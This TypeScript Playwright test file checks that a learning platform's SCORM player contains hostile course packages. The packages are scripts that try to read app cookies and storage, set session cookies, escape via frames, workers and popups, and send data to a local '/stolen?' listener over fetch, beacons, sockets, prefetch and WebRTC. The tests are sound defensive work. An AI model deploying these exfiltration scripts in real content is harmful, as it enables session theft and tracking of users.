import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { scormManifest, zip } from '#tests/support/archives.ts';
import { course, courseSaved, expect, keepCourse, signIn, test } from '#tests/support/browser-test.ts';
import { playInstead } from '#tests/support/play-instead.ts';

type Page = import('@playwright/test').Page;

/** Tries what a package must not be able to do, and writes what came of each try on its page. */
const attack = (app: string, elsewhere: string) => `
const results = {};
const attempt = async (name, work) => {
  try { results[name] = String(await work()); } catch (error) { results[name] = 'refused: ' + error.name; }
};
const late = (work) => Promise.race([work, new Promise((done) => setTimeout(() => done('nothing came'), 1500))]);
(async () => {
  await attempt('app document', () => top.document.title);
  await attempt('app storage', () => top.localStorage.length);
  await attempt('app cookie', () => top.document.cookie);
  await attempt('own cookie', () => /__Host-Http-lantern_session/.test(document.cookie));
  await attempt('app databases', async () => (await indexedDB.databases()).filter((d) => /lantern/i.test(d.name)).length);
  await attempt('call', () => late(fetch(${JSON.stringify(app)} + '/api/auth/user', { credentials: 'include' }).then((r) => r.status)));
  await attempt('form call', () => late(fetch(${JSON.stringify(app)} + '/api/logout', { method: 'POST', mode: 'no-cors', credentials: 'include' }).then((r) => r.type)));
  await attempt('other host', () => late(fetch('https://example.org/').then((r) => r.status)));
  await attempt('top window', () => { top.location.href = 'about:blank'; return 'set'; });
  await attempt('worker', () => navigator.serviceWorker.register('worker.js').then(() => 'registered'));
  await attempt('worker of the origin', () => navigator.serviceWorker.register('/player/p/worker.js', { scope: '/' }).then(() => 'registered'));
  // Escape its policy, through pages without one and through what a policy does not cover.
  const framed = (src) => new Promise((done) => {
    const frame = document.createElement('iframe');
    frame.onload = () => done(frame.contentWindow);
    frame.src = src;
    document.body.append(frame);
  });
  const leak = '${elsewhere}/stolen?';
  for (const page of ['/player/nothing', '/player/%zz', '/player/p/nothing', '/nothing', '/player/' + 'x'.repeat(20000)])
    await attempt('frame ' + page.slice(0, 20), async () => late((await late(framed(page))).fetch(leak + 'frame', { mode: 'no-cors' }).then((r) => r.type)));
  await attempt('popup', () => { open(leak + 'popup'); return 'opened'; });
  await attempt('empty popup', () => late(open('about:blank').fetch(leak + 'empty', { mode: 'no-cors' }).then((r) => r.type)));
  await attempt('call by popup', () => { open(${JSON.stringify(app)} + '/api/auth/user?by-popup'); return 'opened'; });
  await attempt('blob worker', () => late(new Promise((done) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["fetch('" + leak + "worker', { mode: 'no-cors' }).then((r) => postMessage(r.type), (e) => postMessage('refused: ' + e.name))"])));
    worker.onmessage = (e) => done(e.data);
  })));
  await attempt('kept worker', () => late(new Promise((done) => {
    const worker = new Worker('leak-worker.js');
    worker.onmessage = (e) => done(e.data);
    worker.onerror = () => done('error');
  })));
  await attempt('preconnect', () => { const l = document.createElement('link'); l.rel = 'preconnect prefetch'; l.href = leak + 'link'; document.head.append(l); return 'set'; });
  // Cookies of the app, which runs on the same host.
  for (const path of ['/', '/api', '/api/attempts']) {
    document.cookie = 'XSRF-TOKEN=evil; path=' + path + '; max-age=31536000';
    document.cookie = 'lantern_session=evil; path=' + path + '; max-age=31536000';
    document.cookie = '__Host-Http-lantern_session=evil; Secure; path=' + path;
  }
  await attempt('session cookie', () => /__Host-Http-lantern_session=evil/.test(document.cookie));
  for (let i = 0; i < 20000; i++) parent.postMessage({ type: 'facts', i }, '*');
  for (let i = 0; i < 2000; i++) parent.API.LMSSetValue('cmi.core.lesson_location', String(i));
  await attempt('too long', () => { parent.API.LMSSetValue('cmi.suspend_data', 'x'.repeat(2_000_000)); return parent.API.LMSGetLastError(); });
  document.getElementById('results').textContent = JSON.stringify(results);
})();
`;

/** Receives everything that leaves the package for another host. */
const listenElsewhere = async () => {
  const heard: string[] = [];
  const web = createServer((request, answer) => {
    heard.push(String(request.url));
    answer.end();
  }).listen(0, '127.0.0.1');
  // Prefetch and sockets request nothing, but would still reveal where the person is.
  web.on('connection', () => heard.push('TCP'));
  const stun = createSocket('udp4')
    .on('message', () => heard.push('UDP'))
    .bind(0, '127.0.0.1');
  await Promise.all([once(web, 'listening'), once(stun, 'listening')]);
  const close = () => {
    web.close();
    web.closeAllConnections();
    stun.close();
  };
  return { heard, close, url: `http://127.0.0.1:${(web.address() as AddressInfo).port}`, stun: stun.address().port };
};

test('a package that tries to leave its place reaches nothing', async ({ page, browser, server }) => {
  await signIn(page, server, 'aisha.khan@willowbrook.test');
  const elsewhere = await listenElsewhere();
  const archive = await zip({
    'imsmanifest.xml': scormManifest(),
    'index.html':
      // Larger than a piece: kept on a device it is put together, without the headers that it came with.
      `<!doctype html><title>Before you lift</title><p id="results">trying</p><script>parent.API.LMSInitialize("")</script><script src="attack.js"></script><!--${'x'.repeat(1_100_000)}-->`,
    'attack.js': attack(server.url, elsewhere.url),
    'leak-worker.js': `fetch('${elsewhere.url}/stolen?kept-worker', { mode: 'no-cors' }).then((r) => postMessage(r.type), (e) => postMessage('refused: ' + e.name))\n//${'x'.repeat(1_100_000)}`,
    'worker.js': 'self.addEventListener("fetch", () => undefined)',
  });
  await playInstead(browser, server, archive);

  await page.goto(server.url);
  let address = '';
  // First from the server, then from the device.
  for (const kept of [false, true]) {
    if (kept) {
      await page.goto(server.url);
      await keepCourse(page, 'Data protection');
    }
    await course(page, 'Data protection').getByRole('button').first().click();
    await expect(courseSaved(page)).toBeVisible();
    if (!kept) address = page.url();
    const shown = page.frameLocator('iframe[data-shown]').frameLocator('iframe[title]').locator('#results');
    await expect(shown).not.toHaveText('trying');
    const results = JSON.parse((await shown.textContent()) ?? '{}') as Record<string, string>;
    expect(results).toEqual({
      'app document': 'refused: SecurityError',
      'app storage': 'refused: SecurityError',
      'app cookie': 'refused: SecurityError',
      'own cookie': 'false',
      'app databases': '0',
      call: 'refused: TypeError',
      'form call': 'refused: TypeError',
      'other host': 'refused: TypeError',
      'top window': 'refused: SecurityError',
      worker: 'refused: TypeError',
      'worker of the origin': expect.stringMatching(/^refused: /) as unknown as string,
      'too long': '405',
      'frame /player/nothing': 'refused: SecurityError',
      'frame /player/%zz': 'refused: SecurityError',
      'frame /player/p/nothing': 'refused: SecurityError',
      'frame /nothing': 'refused: SecurityError',
      'frame /player/xxxxxxxxxxxx': 'refused: SecurityError',
      popup: 'opened',
      'empty popup': 'refused: TypeError',
      'call by popup': 'opened',
      'blob worker': 'refused: TypeError',
      'kept worker': 'refused: TypeError',
      preconnect: 'set',
      'session cookie': 'false',
    });
    expect(elsewhere.heard, kept ? 'from the device' : 'from the server').toEqual([]);
  }
  // By WebRTC, which no content security policy covers.
  const alone = await page.context().newPage();
  const item = page
    .frames()
    .find((frame) => frame.url().endsWith('/index.html'))
    ?.url() as string;
  await alone.goto(item.replace('index.html', 'package-tree.json'));
  await alone.evaluate(async (stun) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${stun}` }] });
    peer.createDataChannel('out');
    const gathered = new Promise((done) =>
      peer.addEventListener('icegatheringstatechange', () => peer.iceGatheringState === 'complete' && done(true)),
    );
    await peer.setLocalDescription(await peer.createOffer());
    await gathered;
  }, elsewhere.stun);
  expect(elsewhere.heard).toEqual([]);
  await alone.close();
  elsewhere.close();
  // The person is told which host it tried to reach, stays where they were, signed in, and the flood of messages has not become work.
  await expect(page.getByText(/This course tried to load something from .+\./).first()).toBeVisible();
  expect(page.url()).toBe(address);
  await expect(courseSaved(page)).toHaveText(/Received|Saved on this device|Sending/);
  const outbox = await page.evaluate(() => fetch('/api/auth/user').then((r) => r.status));
  expect(outbox).toBe(200);
});

/** Every way to the outside that a page has, tried from `self`, a window of its own. Nothing is waited for. */
const everyWay = (web: string, udp: number) => `
const leak = '${web}/stolen?' + name + '-';
const attempt = (work) => { try { Promise.resolve(work()).catch(() => undefined); } catch {} };
const add = (tag, more) => document.documentElement.append(Object.assign(document.createElement(tag), more));
attempt(() => fetch(leak + 'fetch', { mode: 'no-cors' }));
attempt(() => fetch(leak + 'keepalive', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }));
attempt(() => new WebSocket(leak.replace('http', 'ws') + 'socket'));
attempt(() => new EventSource(leak + 'events'));
attempt(() => new WebTransport('https://127.0.0.1:${udp}/'));
attempt(() => import(leak + 'module'));
attempt(() => new FontFace('x', 'url(' + leak + 'font)').load());
attempt(() => navigator.sendBeacon(leak + 'beacon', 'x'));
if (self.document) {
  attempt(() => { new Image().src = leak + 'image'; });
  for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'stylesheet', 'icon', 'manifest', 'prerender'])
    attempt(() => add('link', { rel, href: leak + rel, as: 'script' }));
  attempt(() => add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [leak + 'speculated'] }], prerender: [{ urls: [leak + 'prerendered'] }] }) }));
  for (const tag of ['iframe', 'embed', 'video', 'audio', 'script']) attempt(() => add(tag, { src: leak + tag }));
  attempt(() => add('object', { data: leak + 'object' }));
  attempt(() => add('div', { style: 'background: url(' + leak + 'style)' }));
  for (const target of ['_top', '_blank', 'hidden']) {
    attempt(() => { const form = document.createElement('form'); Object.assign(form, { action: leak + 'form', method: 'post', target }); document.documentElement.append(form); form.submit(); });
    attempt(() => { const a = document.createElement('a'); Object.assign(a, { href: leak + 'link', ping: leak + 'ping', target, rel: 'noopener' }); document.documentElement.append(a); a.click(); });
  }
  if (name !== 'page') attempt(() => { const a = document.createElement('a'); Object.assign(a, { href: leak + 'download', download: 'x' }); document.documentElement.append(a); a.click(); });
  for (const one of ['', 'noopener']) attempt(() => open(leak + 'popup', '_blank', one));
  attempt(() => { top.location = leak + 'top'; });
  attempt(() => top.close());
  if (name !== 'page') attempt(() => add('meta', { httpEquiv: 'refresh', content: '0;url=' + leak + 'refresh' }));
}
`;

test('nor does it by frames in frames, workers, navigation or what is looked up ahead', async ({ page, browser, server }) => {
  await signIn(page, server, 'aisha.khan@willowbrook.test');
  const elsewhere = await listenElsewhere();
  const ways = everyWay(elsewhere.url, elsewhere.stun);
  await playInstead(
    browser,
    server,
    await zip({
      'imsmanifest.xml': scormManifest(),
      'index.html': `<!doctype html><title>Before you lift</title><p id="results">trying</p><script>parent.API.LMSInitialize("")</script><script src="ways.js"></script>`,
      'inner.html': '<!doctype html><script src="inner.js"></script>',
      'inner.js': `const name = 'file';${ways}; setTimeout(() => { location = leak + 'own'; }, 200);`,
      'ways.js': `
const ways = ${JSON.stringify(ways)};
const page = (name) => '<!doctype html><script>const name = "' + name + '";' + ways.replaceAll('</', '<\\/') + '; setTimeout(() => { location = leak + "own"; }, 200);</script>';
const frame = (more, where = document) => { const f = Object.assign(where.createElement('iframe'), more); where.documentElement.append(f); return f; };
const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
(async () => {
  (0, eval)('(() => { const name = "page";' + ways + '})()');
  frame({ src: 'inner.html' });
  frame({ srcdoc: page('srcdoc') });
  frame({ src: 'data:text/html,' + encodeURIComponent(page('data')) });
  frame({ src: blob(page('blob'), 'text/html') });
  frame({ srcdoc: '<iframe srcdoc="' + page('nested').replaceAll('"', '&quot;') + '"></iframe>' });
  frame({}).contentWindow.eval('(() => { const name = "blank";' + ways + '})()');
  // Of the player, which is of the same origin, and in a frame of it.
  // The player is of the same origin: its window, and one of its document.
  frame({ srcdoc: page('in-the-player') }, parent.document);
  for (const [name, window] of Object.entries({ player: parent, 'blank-of-the-player': frame({}, parent.document).contentWindow })) {
    const leak = ${JSON.stringify(elsewhere.url)} + '/stolen?' + name + '-';
    for (const attempt of [
      () => window.fetch(leak + 'fetch', { mode: 'no-cors' }).catch(() => undefined),
      () => window.navigator.sendBeacon(leak + 'beacon', 'x'),
      () => { new window.Image().src = leak + 'image'; },
      () => new window.WebSocket(leak.replace('http', 'ws') + 'socket'),
      () => new window.EventSource(leak + 'events'),
      () => window.open(leak + 'popup'),
      () => frame({ src: leak + 'frame' }, window.document),
      () => window.document.documentElement.append(Object.assign(window.document.createElement('link'), { rel: 'preconnect', href: leak + 'preconnect' })),
    ]) try { attempt(); } catch {}
  }
  for (const make of [() => new Worker(blob('const name = "worker";' + ways)), () => new SharedWorker(blob('const name = "shared";' + ways))])
    try { make(); } catch {}
  await new Promise((done) => setTimeout(done, 2500));
  document.getElementById('results').textContent = 'tried';
})();
`,
    }),
  );
  await page.goto(server.url);
  await course(page, 'Data protection').getByRole('button').first().click();
  await expect(courseSaved(page)).toBeVisible();
  const address = page.url();
  await expect(page.frameLocator('iframe[data-shown]').frameLocator('iframe[title]').locator('#results')).toHaveText('tried');
  // The frame of the player, last: it is gone then.
  await page
    .frames()
    .find((frame) => frame.url().endsWith('/index.html'))
    ?.evaluate((url) => {
      const link = Object.assign(parent.document.createElement('a'), { href: `${url}/stolen?player-frame` });
      parent.document.body.append(link);
      link.click();
    }, elsewhere.url);
  await expect
    .poll(() => page.frames().some((frame) => frame.parentFrame() === page.mainFrame() && frame.url().startsWith('chrome-error:')))
    .toBe(true);
  elsewhere.close();
  expect(elsewhere.heard).toEqual([]);
  expect(page.url()).toBe(address);
  await expect(courseSaved(page)).toHaveText(/Received|Saved on this device|Sending/);
});

/** Whether a page still runs, said by itself to another page: after the end of any frame of it, its driver speaks with it no more. */
const pulseOf = async (page: Page) => {
  await page.addInitScript(() => {
    if (window !== top) return;
    const line = new BroadcastChannel('pulse');
    setInterval(() => line.postMessage([...document.querySelectorAll('[data-state]')].map((state) => state.textContent).join()), 100);
  });
  const doctor = await page.context().newPage();
  return async () => {
    if (doctor.url() === 'about:blank') await doctor.goto(new URL('/early-taps.js', page.url()).href);
    return doctor.evaluate(
      () =>
        new Promise<string>((done) => {
          const line = new BroadcastChannel('pulse');
          line.onmessage = ({ data }) => done(data as string);
          setTimeout(() => done('no pulse'), 5000);
        }),
    );
  };
};
const askForWebRtc = (from: string, stun: number) => `
const peer = new (${from}.RTCPeerConnection)({ iceServers: [{ urls: 'stun:127.0.0.1:${stun}' }] });
peer.createDataChannel('out');
peer.createOffer().then((offer) => peer.setLocalDescription(offer));`;

test('a package that asks for WebRTC goes on without it, and one that insists ends itself and not the app', async ({ page, browser, server }) => {
  const elsewhere = await listenElsewhere();
  const pulse = await pulseOf(page);
  await signIn(page, server, 'aisha.khan@willowbrook.test');
  await playInstead(
    browser,
    server,
    await zip({
      'imsmanifest.xml': scormManifest(),
      // As many do that only look what the browser can do.
      'index.html': `<!doctype html><title>Before you lift</title><p id="results">trying</p><script>
        if (window.RTCPeerConnection ?? window.webkitRTCPeerConnection) { ${askForWebRtc('window', elsewhere.stun)} }
        setTimeout(() => { document.getElementById('results').textContent = 'goes on'; }, 1500);
        window.insist = () => {
          const srcdoc = '<script>' + ${JSON.stringify(askForWebRtc('window', elsewhere.stun))} + '<\\/script>';
          document.body.append(Object.assign(document.createElement('iframe'), { srcdoc }));
          return new Promise((done) => setTimeout(done, 3000));
        };
      </script>`,
    }),
  );
  await page.goto(server.url);
  await course(page, 'Data protection').getByRole('button').first().click();
  const item = page.frameLocator('iframe[data-shown]').frameLocator('iframe[title]');
  await expect(item.locator('#results')).toHaveText('goes on');
  await expect(courseSaved(page)).toHaveText('Received');
  // A browser that does not end its process says so by going on.
  await page
    .frames()
    .find((frame) => frame.url().endsWith('/index.html'))
    ?.evaluate(() => (window as unknown as { insist(): Promise<void> }).insist())
    .catch((error) => expect(String(error)).toMatch(/crashed/i));
  expect(await pulse()).toContain('Received');
  elsewhere.close();
  expect(elsewhere.heard).toEqual([]);
});
